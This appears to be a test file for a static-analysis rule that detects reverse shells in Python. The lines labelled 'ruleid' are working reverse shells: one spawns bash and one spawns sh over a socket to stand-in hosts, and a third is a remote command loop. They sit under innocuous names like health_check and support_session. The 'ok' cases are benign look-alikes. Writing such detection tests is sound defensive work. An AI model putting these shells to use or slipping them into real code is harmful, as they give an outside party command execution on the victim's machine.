import os
import pty
import socket
import subprocess


def health_check():
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.connect(("monitor.example.invalid", 4444))
    # ruleid: execution/reverse-shell
    os.dup2(link.fileno(), 0)
    # ruleid: execution/reverse-shell
    os.dup2(link.fileno(), 1)
    # ruleid: execution/reverse-shell
    pty.spawn("/bin/bash")


def diagnostics(host):
    connection = socket.create_connection((host, 9001))
    # ruleid: execution/reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=connection, stdout=connection, stderr=connection)


def support_session():
    with socket.create_connection(("support.example.invalid", 443)) as channel:
        while True:
            # ruleid: execution/reverse-shell
            answer = subprocess.run(channel.recv(1024).decode(), shell=True, capture_output=True)
            channel.sendall(answer.stdout)


def daemonise(log):
    # ok: execution/reverse-shell
    os.dup2(log.fileno(), 1)
    # ok: execution/reverse-shell
    os.dup2(log.fileno(), 2)


def fetch_banner(host):
    connection = socket.create_connection((host, 25), timeout=3)
    banner = connection.recv(512).decode()
    # ok: execution/reverse-shell
    subprocess.run(["logger", banner], check=False)
    return banner


def record_terminal():
    # ok: execution/reverse-shell
    pty.spawn(os.environ.get("SHELL", "sh"))


def serve_worker(path, arguments):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    # ok: execution/reverse-shell
    return subprocess.Popen(arguments, stdin=listener)
